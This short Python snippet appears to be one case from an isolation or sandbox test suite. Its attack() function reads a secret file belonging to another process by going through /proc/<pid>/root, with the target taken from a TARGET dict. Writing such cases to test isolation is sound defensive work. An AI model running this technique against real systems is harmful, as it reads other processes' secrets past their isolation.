"""Reads through another process's root.

kind: call
"""

def attack():
    return open(f"/proc/{TARGET['pid']}/root{TARGET['secret']}").read()
